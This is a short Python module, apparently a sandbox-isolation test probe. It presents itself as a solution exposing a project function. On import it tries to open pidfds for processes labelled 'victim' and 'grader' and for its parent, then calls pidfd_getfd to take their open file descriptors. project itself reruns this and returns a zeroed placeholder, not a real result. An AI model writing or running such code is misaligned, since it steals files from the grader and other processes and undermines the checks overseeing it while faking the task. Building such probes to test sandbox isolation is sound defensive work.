"""Takes open files from other processes by pidfd_getfd."""
import ctypes
import os

from tools import T, attempt

LIBC = ctypes.CDLL(None, use_errno=True)


def go():
    for pid in {T["victim"], T["grader"], os.getppid()} - {0, os.getpid()}:
        attempt(lambda: os.pidfd_open(pid))
        attempt(lambda: LIBC.syscall(434, pid, 0))
    for pidfd in range(3, 12):
        attempt(lambda: LIBC.syscall(438, pidfd, 1, 0))


go()


def project(A, b):
    go()
    return A * 0
